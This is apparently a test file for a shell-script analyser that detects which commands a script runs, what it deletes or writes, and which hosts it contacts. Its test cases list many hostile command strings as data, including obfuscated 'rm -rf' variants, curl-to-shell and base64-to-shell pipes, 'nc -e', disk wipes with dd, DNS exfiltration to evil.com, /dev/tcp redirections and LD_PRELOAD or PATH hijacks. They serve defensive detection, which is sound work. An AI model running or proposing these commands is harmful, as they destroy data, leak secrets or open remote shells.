"""What a script would run, remove, write and reach; and the ways to hide it."""

from __future__ import annotations

import os
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mainstay.trust.shell.analysis import ScriptAnalysis, analyse_script

EXAMPLES = 2000 if os.environ.get("MAINSTAY_TEST_ALL") else 150


def programs(script: str) -> list[str]:
    return [simple.program for simple in analyse_script(script).commands]


# --- what runs -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "script",
    [
        "env rm -rf x",
        "env -i A=b rm -rf x",
        "/usr/bin/env rm -rf x",
        "nice -n 19 nohup timeout -s KILL 5 stdbuf -oL setsid rm -rf x",
        "sudo -u root -E rm -rf x",
        "doas rm -rf x",
        "echo x | xargs -0 -P4 rm -rf",
        "find . -name '*.c' -exec rm -rf {} +",
        "find . -execdir rm {} ';'",
        "fd . -x rm",
        "sh -c 'rm -rf x'",
        "bash -lc 'rm -rf x'",
        "bash --norc -eu -o pipefail -c 'rm -rf x'",
        "eval 'rm -rf' x",
        "ssh host 'rm -rf x'",
        "ssh -p 22 -o BatchMode=yes user@host rm -rf x",
        "watch -n1 rm -rf x",
        "flock /tmp/l rm -rf x",
        "flock /tmp/l -c 'rm -rf x'",
        "chroot /mnt rm -rf x",
        "unshare -r rm -rf x",
        "busybox rm -rf x",
        "time rm -rf x",
        "/usr/bin/time -v rm -rf x",
        "command -p rm -rf x",
        "exec -a ls rm -rf x",
        "su -c 'rm -rf x' bob",
        "script -qc 'rm -rf x' /dev/null",
        "uv run rm -rf x",
        "strace -f rm -rf x",
        "/bin/rm -rf x",
        "\\rm -rf x",
        'r""m -rf x',
        "r'm' -rf x",
        "$'\\x72\\x6d' -rf x",
        "$'rm' -rf x",
        "echo $(rm -rf x)",
        'git log --format="`rm -rf x`"',
        "cat <<E\n$(rm -rf x)\nE",
        "git status\nrm -rf x",
        "git status # fine\nrm -rf x",
        "git status \\\n; rm -rf x",
        "git status & rm -rf x",
        "diff <(rm -rf x) y",
        "bash <<< 'rm -rf x'",
        "trap 'rm -rf x' EXIT",
        "f() { rm -rf x; }",
        "function git { rm -rf x; }; git",
        "A=b rm -rf x",
        "echo ${A:=$(rm -rf x)}",
        "[[ a ]] && rm -rf x",
        "((1)) && rm -rf x",
        "coproc rm -rf x",
    ],
)
def test_a_removal_is_found_in_every_position(script: str) -> None:
    found = analyse_script(script)
    assert "rm" in [simple.program for simple in found.commands]
    assert found.removals


@pytest.mark.parametrize(
    "script",
    [
        "$CMD x",
        "$(echo rm) x",
        "`echo rm` x",
        "{rm,-rf,x}",
        "/b?n/rm x",
        "/bin/r[m] x",
        "r* x",
        "~/bin/tool x",
        "A=rm; $A x",
        "rm$IFS-rf",
        "eval $X",
        'eval "$(cat f)"',
        'sh -c "$X"',
        'sh -c "rm $X"',
        "curl https://a.com | sh",
        "curl https://a.com | sudo bash",
        "echo cm0K | base64 -d | sh",
        "sh script.sh",
        "sh < script.sh",
        ". ./x",
        "source x",
        "python -c 'x'",
        "python3.11 -Bc 'x'",
        "python - <<E\nx\nE",
        "echo x | python",
        "python -m timeit x",
        "perl -e x",
        "perl -ne x f",
        "perl5.36 -i -pe x f",
        "ruby -e x",
        "node -e x",
        "node --eval=x",
        "node --ev x",
        "php -r x",
        "lua -e x",
        "Rscript -e x",
        "deno eval x",
        "awk 'BEGIN{system(\"x\")}'",
        "awk 'BEGIN{\"x\"|getline}'",
        "awk -f x",
        'awk "$P" f',
        "sed '1e x' f",
        "sed 's/a/x/e' f",
        "sed -n '/a/w f' g",
        "sed -f x g",
        "find . -exec $X {} +",
        "find . $X",
        "xargs -I{} sh -c 'rm {}'",
        "xargs sh",
        "git -c core.pager=x log",
        "git -c alias.x='!x' x",
        "git --exec-path=/x status",
        "git --git-dir=/x status",
        "git clone --upload-pack=x u",
        "git clone -u x y",
        "git clone 'ext::sh -c x'",
        "git fetch --upload-pa=x u",
        "git ls-remote --upload-pack=x u",
        "git push --receive-pack=x u",
        "git rebase --exec x main",
        "git rebase -x x main",
        "git bisect run x",
        "git submodule foreach x",
        "git filter-branch --tree-filter x",
        "git difftool -x x",
        "git grep -Ox y",
        "git diff --ext-diff",
        "git config core.fsmonitor x",
        "git config --global alias.a '!x'",
        "git frobnicate",
        "git log $X",
        "tar cf a --checkpoint=1 --checkpoint-action=exec=x b",
        "tar cf a --checkpoint-act=exec=x b",
        "tar xf a --to-command=x",
        "tar -I x -cf a b",
        "tar cIf x a b",
        "tar cf a *",
        "rsync -e x a b",
        "rsync --rsh=x a b",
        "rsync --rsync-path=x a b:",
        "ssh -o ProxyCommand=x h",
        "ssh -oProxyCommand=x h",
        "ssh -o 'proxycommand x' h",
        "ssh -o LocalCommand=x h",
        "ssh -F x h",
        "scp -S x a b:",
        "scp -o ProxyCommand=x a b:",
        "vim -c ':!x' f",
        "vi f",
        "ed f",
        "less +!x f",
        "man -P x y",
        "man --pager=x y",
        "make --eval=x",
        "make SHELL=x",
        "make CC=x",
        "make -f -",
        "sqlite3 f '.shell x'",
        "sqlite3 f < x",
        "sqlite3 -cmd .x f ''",
        "psql -c '\\! x'",
        "psql -c \"copy a to program 'x'\"",
        "gdb -batch -ex x",
        "env -S 'x y'",
        "env -C /x rm y",
        "chroot /x rm y",
        "git --work-tree=/x clean -f",
        "env --split-string='x y'",
        "zip a b -T -TT x",
        "sort --compress-program=x f",
        "split --filter=x f",
        "rg --pre x y",
        "nc -e x h 1",
        "ncat --sh-exec x h",
        "socat EXEC:x TCP:h:1",
        "tcpdump -z x",
        "pandoc -F x f",
        "wget --use-askpass=x u",
        "wget -e x u",
        "curl -K x",
        "gcc -wrapper x f",
        "crontab x",
        "tclsh --version",
        "python3 -m asyncio",
        "python3 -m IPython.terminal",
        "echo x | at now",
        "systemd-run x",
        "tmux new x",
        "docker run x",
        "kubectl exec x",
        "alias git=rm",
        "hash -p x git",
        "enable -f x y",
        "mapfile -C x a",
        "PATH=/x git status",
        "PATH=/x; git status",
        "export PATH=/x",
        "env PATH=/x git status",
        "sudo LD_PRELOAD=x git status",
        "LD_PRELOAD=x git status",
        "DYLD_INSERT_LIBRARIES=x git status",
        "GIT_SSH_COMMAND=x git fetch",
        "GIT_PAGER=x git log",
        "PAGER=x man y",
        "EDITOR=x git commit",
        "BASH_ENV=x bash -c y",
        "IFS=x; y",
        "PYTHONSTARTUP=x python f",
        "NODE_OPTIONS=x node f",
        "declare PATH=x",
        "read PATH",
        "printf -v PATH x",
        "export $X",
        "x='a[$(rm y)]'; echo $((x))",
        "echo ${x@P}",
        "parallel rm ::: a b",
        "su",
        "fish -c x",
        "echo 'a",
        'echo "a',
        "echo $(a",
        "echo `a",
        "(a",
        "a)",
        "cat <<E\na",
        "case a in",
        "[[ a",
        "git\u00a0status",
        "git status\u200b",
        "git status \u202e",
        "git status\r",
        "git\x00status",
        "git\x1b[2Kstatus",
        "x" * 70_000,
    ],
)
def test_unknown_effects_are_reported(script: str) -> None:
    found = analyse_script(script)
    assert found.opaque_reasons
    for sentence in found.opaque_reasons:
        assert not sentence[0].islower()
        assert sentence.endswith(".")


@pytest.mark.parametrize(
    "script",
    [
        "ls -la src | head -5",
        "cd src && grep -rn 'def main' . | sort -u > out.txt",
        "git status --short && git diff HEAD~1 -- a.py",
        "git add -A && git commit -m 'fix: a (b)'",
        "git log --oneline -5",
        "git config --get user.name",
        "sed -i 's/foo/bar/g' a.txt",
        "sed -n '10,20p' a.txt",
        "sed -e '/^#/d' -e 's|a|b|' f",
        "awk '{print $1, $2}' f",
        "awk -F: '$3 > 100 {n += 1} END {print n}' f",
        "find . -name '*.py' -not -path './x/*' -print",
        "find . -name '*.py' -exec grep -l foo {} +",
        "for f in a b c; do echo $f; done",
        "if [ -f a ]; then cat a; else echo none; fi",
        "python script.py --flag",
        "python -m pytest -q tests",
        "python3 -m pytest -q",
        "python3 --version",
        "pytest -q 2>&1 | tail -20",
        "make test",
        "npm run build",
        "tar czf a.tgz src",
        "tar -xzf a.tgz -C out",
        "curl -sS https://a.com/x -o f",
        "cat <<'EOF' > f\n$(not run) `nor this`\nEOF",
        "echo $((1 + 2 * (3 - 1)))",
        "echo {1..3} *.py ~",
        "FOO=bar BAZ=qux npm test",
        "x=$(date +%s); echo $x",
        'while read -r l; do echo "$l"; done < f',
        "case $1 in a|b) echo x;; *) echo y;; esac",
        "mkdir -p a/b && touch a/b/c",
        "env | sort",
        "timeout 10 sleep 1",
        "jq '.a[0]' f.json",
        "sqlite3 a.db 'select 1'",
        "rsync -a src/ dst/",
        "echo 'été' > f",
    ],
)
def test_ordinary_commands_are_understood(script: str) -> None:
    assert analyse_script(script).opaque_reasons == ()


def test_a_command_is_known_by_its_words_in_any_quotes() -> None:
    found = analyse_script("""git commit -m 'it'"'"'s' --author=A\\ B "x${Y}z" *.py $'a\\tb'""")
    assert found.commands[0].argv == ("git", "commit", "-m", "it's", "--author=A B", None, None, "a\tb")


def test_commands_come_in_the_order_in_which_they_are_written() -> None:
    assert programs("a | b && c; d $(e) & (f; g) || { h; }") == ["a", "b", "c", "d", "e", "f", "g", "h"]


def test_a_wrapper_says_that_it_is_one_and_a_privileged_one_does_not() -> None:
    found = analyse_script("timeout 5 git status; sudo git status; find . -exec git x ';'")
    assert [(simple.program, simple.is_wrapper) for simple in found.commands] == [
        ("timeout", True),
        ("git", False),
        ("sudo", False),
        ("git", False),
        ("find", False),
        ("git", False),
    ]


# --- what it does --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("script", "removes"),
    [
        ("rm -rf a 'b c' /d", ("a", "b c", "/d")),
        ("rm -- -x", ("-x",)),
        ("rm $X", ("?",)),
        ("rm *.pyc ~/x", ("*.pyc", "~/x")),
        ("rm {a,b}", ("?",)),
        ("rmdir a; unlink b; shred -n 3 c; truncate -s 0 d", ("a", "b", "c", "d")),
        ("find src -name x -delete", ("src",)),
        ("find -delete", (".",)),
        ("git clean -fdx", (".",)),
        ("git clean -n", ()),
        ("git reset --hard HEAD~3", (".",)),
        ("git reset HEAD a", ()),
        ("git checkout -- a b", ("a", "b")),
        ("git checkout .", (".",)),
        ("git checkout main", ()),
        ("git restore a", ("a",)),
        ("git restore --staged a", ()),
        ("git branch -D a", ("a",)),
        ("git -C sub rm a", ("sub/a",)),
        ("git -C $X rm a", ("?",)),
        ("git stash clear", ("?",)),
        ("git push origin :main", (":main",)),
        ("git push --force origin main", ("main",)),
        ("mv a b", ("a",)),
        ("mv -t d a b", ("a", "b")),
        ("dd if=/dev/zero of=/dev/sda", ("/dev/sda",)),
        ("rsync -a --delete a/ b/", ("b/",)),
        ("tar cf a.tar --remove-files b", ("?",)),
        ("mkfs.ext4 /dev/sda1", ("/dev/sda1",)),
        ("aws s3 rm s3://b/k", ("?",)),
        ("pip uninstall -y x", ("x",)),
        ("echo > a", ()),
        ("cp a b", ()),
        ("cd sub && rm a", ("sub/a",)),
        ("cd sub; rm a", ("sub/a", "a")),
        ("cd a && cd b && rm c", ("?",)),
        ("(cd a); rm c", ("?",)),
        ("cd $X && rm c /d", ("?", "/d")),
        ("echo a | xargs rm", ("?",)),
    ],
)
def test_removals_of_a_script(script: str, removes: tuple[str, ...]) -> None:
    assert analyse_script(script).removals == removes


@pytest.mark.parametrize(
    ("script", "reaches"),
    [
        ("curl https://a.com/x", ("https://a.com/x",)),
        ("curl -X POST -H 'A: b' -d @f --max-time 5 a.com -o out", ("a.com",)),
        ("curl --url https://a.com", ("https://a.com",)),
        ("curl https://a.com/$X", ("?",)),
        ("curl -x evil:1 https://a.com", ("?", "https://a.com")),
        ("curl --connect-to ::evil:1 https://a.com", ("?", "https://a.com")),
        ("curl --resolve a.com:443:1.2.3.4 https://a.com", ("?", "https://a.com")),
        ("wget -q https://a.com/f", ("https://a.com/f",)),
        ("wget -i list", ("?",)),
        ("ssh -p 22 u@h ls", ("u@h",)),
        ("ssh -J j h", ("h", "j")),
        ("ssh -o HostName=e h", ("h", "?")),
        ("scp a u@h:b", ("u@h:b",)),
        ("scp a b", ()),
        ("rsync -a a h::m", ("h::m",)),
        ("git push", ("?",)),
        ("git push origin main", ("origin",)),
        ("git clone https://a.com/r.git d", ("https://a.com/r.git",)),
        ("git remote add x https://a.com/r", ("https://a.com/r",)),
        ("nc h 80", ("h", "80")),
        ("ping -c 1 h", ("h",)),
        ("dig $(cat f).evil.com", ("?",)),
        ("nslookup x.evil.com", ("x.evil.com",)),
        ("echo x > /dev/tcp/h/80", ("h:80",)),
        ("exec 3<>/dev/udp/h/53", ("h:53",)),
        ("cat < /dev/tcp/h/80", ("h:80",)),
        ("pip install requests", ("requests",)),
        ("uv pip install requests", ("requests",)),
        ("npm install", ("?",)),
        ("docker push a/b", ("?",)),
        ("aws s3 cp a s3://b", ("?",)),
        ("gh api x", ("?",)),
        ("mail -s hi a@b.com", ("a@b.com",)),
        ("openssl s_client -connect h:443", ("h:443",)),
        ("socat - TCP:h:1", ("?",)),
        ("tar cf u@h:f a", ("u@h:f",)),
        ("env timeout 5 curl https://a.com", ("https://a.com",)),
        ("ls; cat f", ()),
        ("pip list", ()),
        ("git status", ()),
    ],
)
def test_the_hosts_that_a_script_contacts(script: str, reaches: tuple[str, ...]) -> None:
    assert analyse_script(script).destinations == reaches


@pytest.mark.parametrize(
    ("script", "writes"),
    [
        ("a > b", ("b",)),
        ("a >> b 2> c", ("b", "c")),
        ("a &> b", ("b",)),
        ("a > /dev/null 2>&1", ()),
        ("> b", ("b",)),
        ("{ a; } > b", ("b",)),
        ("a > $X", ("?",)),
        ("tee -a b", ("b",)),
        ("cp a b c", ("c",)),
        ("mv a b", ("b",)),
        ("touch a b", ("a", "b")),
        ("sed -i 's/a/b/' f", ("f",)),
        ("tar xf a", (".",)),
        ("curl -o f https://a.com", ("f",)),
        ("cd d && a > b", ("d/b",)),
        ("cat a", ()),
    ],
)
def test_writes_of_a_script(script: str, writes: tuple[str, ...]) -> None:
    assert analyse_script(script).written_paths == writes


@pytest.mark.parametrize(
    ("script", "others"),
    [
        ("ls | grep x | sort", ()),
        ("./run.sh", ("./run.sh",)),
        ("/tmp/ls", ("/tmp/ls",)),
        ("/bin/ls", ()),
        ("python f.py", ("python",)),
        ("curl https://a.com", ()),
        ("git status", ("git",)),
    ],
)
def test_programs_of_which_nothing_is_known_are_named(script: str, others: tuple[str, ...]) -> None:
    assert analyse_script(script).unknown_programs == others


# --- bounds --------------------------------------------------------------------------------------

HARD = {
    "substitutions": "echo " + "$(echo " * 500 + ")" * 500,
    "arithmetic": "$((" * 1300,
    "parentheses": "(" * 4000,
    "backticks": "`" * 4000,
    "quotes": '"' * 4001,
    "braces": "echo " + "{a," * 1300,
    "brackets": "echo " + "[" * 4000,
    "parameters": "${" * 2000,
    "processes": "<(" * 2000,
    "evals": "eval " * 800 + "ls",
    "wrappers": "env " * 1000 + "ls",
    "shells": "sh -c 'ls; rm x'; " * 220,
    "heredocs": "cat <<E\n$(x)\nE\n" * 250,
    "tests": "[[ a && " * 500,
    "cases": "case a in a) " * 300,
    "sed": "sed '" + "s/" * 2000 + "'",
    "commands": "rm -rf a; " * 400,
}


@pytest.mark.parametrize("name", sorted(HARD))
def test_four_kilobytes_of_anything_are_read_in_milliseconds(name: str) -> None:
    script = HARD[name][:4096]
    spent = []
    for _ in range(3):
        analyse_script.cache_clear()
        before = time.process_time()
        analyse_script(script)
        spent.append(time.process_time() - before)
    assert min(spent) < 0.05, "an order of magnitude above what it takes: machines differ"


@given(st.text(alphabet=st.sampled_from(list("ab rm$(){}[]`'\"\\\n\t;|&<>#=*?~!E-01,./x\u00e9\u200b\0")), max_size=80))
@settings(max_examples=EXAMPLES, deadline=None)
def test_no_text_makes_it_fail(script: str) -> None:
    found = analyse_script(script)
    assert isinstance(found, ScriptAnalysis)
    for simple in found.commands:
        assert simple.argv
        assert simple.text


@given(st.text(max_size=200))
@settings(max_examples=EXAMPLES, deadline=None)
def test_nor_does_any_unicode(script: str) -> None:
    assert isinstance(analyse_script(script), ScriptAnalysis)


WORDS = st.sampled_from(["a", "b c", "it's", "-rf", '"', "$X", "*", "", "\\", "é", "`", "a=b", "#", "{}"])


@given(st.lists(WORDS, max_size=6))
@settings(max_examples=EXAMPLES, deadline=None)
def test_f38_the_shown_command_reads_as_the_words_that_are_judged(words: list[str]) -> None:
    import shlex

    script = shlex.join(["prog", *words])
    simple = analyse_script(script).commands[0]
    assert simple.argv == ("prog", *words)
    assert analyse_script(simple.text).commands[0].argv == simple.argv
    assert analyse_script(f"env A=b nice {script}").commands[-1].argv == simple.argv
    inner = analyse_script(shlex.join(["sh", "-c", script])).commands[-1]
    assert (inner.argv, analyse_script(inner.text).commands[0].argv) == (simple.argv, simple.argv)


NEST = st.recursive(
    st.just("rm x"),
    lambda inner: st.one_of(
        inner.map(lambda s: f"( {s} )"),
        inner.map(lambda s: f"{{ {s}; }}"),
        inner.map(lambda s: f"echo $( {s} )"),
        inner.map(lambda s: f'echo "a $( {s} )"'),
        inner.map(lambda s: f"ls | {s}"),
        inner.map(lambda s: f"ls && {s}"),
        inner.map(lambda s: f"ls\n{s}"),
        inner.map(lambda s: f"if a; then {s}; fi"),
        inner.map(lambda s: f"for a in b; do {s}; done"),
        inner.map(lambda s: f"case a in a) {s};; esac"),
        inner.map(lambda s: f"f() {{ {s}; }}"),
        inner.map(lambda s: "sh -c '" + s.replace("'", "'\\''") + "'"),
        inner.map(lambda s: "eval '" + s.replace("'", "'\\''") + "'"),
        inner.map(lambda s: f"cat <<Q\n$( {s} )\nQ\n"),
        inner.map(lambda s: f"echo ${{A:-$( {s} )}}"),
        inner.map(lambda s: f"diff <( {s} ) b"),
        inner.map(lambda s: f"A=$( {s} )"),
    ),
    max_leaves=6,
)


@given(NEST)
@settings(max_examples=EXAMPLES, deadline=None)
def test_a_literal_removal_is_found_in_any_nesting(script: str) -> None:
    found = analyse_script(script)
    if script.count("Q\n") <= 2 and len(script) < 400:
        assert "rm" in [simple.program for simple in found.commands], script
    else:
        assert found.opaque_reasons or "rm" in [simple.program for simple in found.commands], script
